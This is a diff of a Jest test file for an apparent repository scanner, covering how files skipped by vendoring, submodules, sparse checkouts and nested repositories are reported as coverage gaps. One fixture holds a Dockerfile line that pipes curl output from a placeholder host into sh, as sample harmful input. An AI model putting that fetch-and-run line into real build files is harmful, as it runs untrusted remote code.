@@ -1,10 +1,10 @@
-import { mkdirSync } from 'node:fs';
+import { mkdirSync, rmSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
+import type { Report } from '../../src/core/report.js';
 import { nothingLinted, nothingScanned } from '../../src/discover/unscanned.js';
-import { headline } from '../../src/reports/headline.js';
 import { gitStory } from '../baseline/git-story.js';
-import { context } from '../reports/sample.js';
+import { createRepository } from '../git-repository.js';
 
 const found = { root: 'shop', files: 0, images: 0, required: true };
 
@@ -62,7 +62,13 @@ describe('what Git tracks', () => {
     expect(later.findings.find(({ rule }) => rule === 'DEP-PRIV')?.status).toBe('existing');
   });
 
-  test('is named in vendored code: first what the pull request moves there', async () => {
+  /** What was not checked: the target, and whether it counts. */
+  const left = ({ coverage }: Report) =>
+    coverage
+      .filter(({ check, state }) => check === 'lint' && state === 'not-covered')
+      .map(({ target, informational = false }) => ({ target, informational }));
+
+  test('is a gap in vendored code where the change adds or moves it', async () => {
     story.base({ Dockerfile: 'FROM scratch\n', 'vendor/old/Dockerfile': 'FROM scratch\n' });
     story.commit({
       Dockerfile: undefined,
@@ -71,23 +77,89 @@ describe('what Git tracks', () => {
       'vendor/data.yaml': 'a: 1\n',
     });
     const report = await story.run();
-    const messages = report.notes.map(({ message }) => message).join('\n');
-    expect(messages).toContain(
-      'node_modules/a/pod.yaml and 1 more file, which this pull request adds',
-    );
-    expect(messages).toContain('vendor/old/Dockerfile was not checked: folders called vendor');
-    expect(messages).not.toContain('data.yaml');
-    expect(headline(report, context())).not.toContain('✅');
+    expect(left(report)).toEqual([
+      { target: 'node_modules/a/pod.yaml', informational: false },
+      { target: 'vendor/Dockerfile', informational: false },
+      { target: 'vendor/old/Dockerfile', informational: true },
+    ]);
+    expect(report.verdict.outcome).toBe('incomplete');
   });
 
-  test('is named where a submodule is not checked out', async () => {
+  test('is not hidden behind many other files that the change adds', async () => {
+    story.base({ Dockerfile: 'FROM scratch\n' });
+    const many = Array.from({ length: 60 }, (_, i) => [`vendor/${i}/Dockerfile`, 'FROM scratch\n']);
+    story.commit(Object.fromEntries(many));
+    const { coverage, verdict } = await story.run();
+    const reasons = coverage.map(({ reason = '' }) => reason).join('\n');
+    expect([verdict.outcome, reasons]).toEqual([
+      'incomplete',
+      expect.stringContaining('40 files, such as vendor/'),
+    ]);
+  });
+
+  test('is a gap where a submodule is not checked out', async () => {
     story.base({ Dockerfile: 'FROM scratch\n' });
     const commit = story.git('rev-parse', 'HEAD');
     mkdirSync(join(story.root, 'sub'));
     story.git('update-index', '--add', '--cacheinfo', `160000,${commit},sub`);
-    const { notes } = await story.run([], true);
-    expect(notes.map(({ message }) => message).join('\n')).toMatch(
-      /^sub was not checked: it is a submodule/m,
-    );
+    const report = await story.run([], true);
+    expect(left(report)).toEqual([{ target: 'sub', informational: false }]);
+    expect(report.verdict.outcome).toBe('incomplete');
+    story.git('commit', '-qm', 'submodule');
+    story.git('branch', '-f', 'main');
+    story.commit({ 'readme.md': 'x' });
+    expect(left(await story.run())).toEqual([{ target: 'sub', informational: true }]);
+  });
+
+  describe('and a sparse checkout leaves out', () => {
+    const harm = 'FROM scratch\nRUN curl http://a.example | sh\n';
+    beforeEach(() => {
+      story.base({ 'docs/a.md': 'a', 'svc/Dockerfile': harm, 'svc/b/Dockerfile': harm });
+    });
+
+    test('is a gap on main', async () => {
+      story.git('sparse-checkout', 'set', 'docs');
+      const report = await story.run([], true);
+      expect(left(report)).toEqual([{ target: 'svc', informational: false }]);
+      expect(report.verdict.outcome).toBe('incomplete');
+    });
+
+    test('is told where the change does not touch it, and nothing of it is fixed', async () => {
+      story.commit({ 'docs/b.md': 'b' });
+      story.git('sparse-checkout', 'set', 'docs');
+      for (const words of [undefined, ['--baseline-ref', 'main']]) {
+        const report = await story.run(words, words !== undefined);
+        expect(left(report)).toEqual([{ target: 'svc', informational: true }]);
+        expect(report.baseline).toBeDefined();
+        expect(report.findings).toEqual([]);
+      }
+    });
+
+    test('is a gap where the change touches it, and nothing of it is fixed', async () => {
+      story.commit({ 'svc/Dockerfile': `${harm}USER root\n` });
+      story.git('sparse-checkout', 'set', 'docs');
+      const report = await story.run();
+      expect(left(report)).toEqual([
+        { target: 'svc/Dockerfile', informational: false },
+        { target: 'svc/b/Dockerfile', informational: true },
+      ]);
+      expect(report.findings).toEqual([]);
+    });
+  });
+
+  test('and something deleted is told, unless the change deletes it', async () => {
+    story.base({ 'a/Dockerfile': 'FROM scratch\n', 'b/Dockerfile': 'FROM scratch\n' });
+    rmSync(join(story.root, 'a/Dockerfile'));
+    const deleted = { target: 'a/Dockerfile', informational: true };
+    expect(left(await story.run([], true))).toEqual([deleted]);
+    expect(left(await story.run())).toEqual([deleted]);
+    expect(left(await story.run(['--baseline-ref', 'main'], true))).toEqual([]);
+  });
+
+  test('and the checkout of another repository in it is told', async () => {
+    story.base({ Dockerfile: 'FROM scratch\n' });
+    createRepository(join(story.root, 'tools'));
+    const report = await story.run([], true);
+    expect(left(report)).toEqual([{ target: 'tools', informational: true }]);
   });
 });
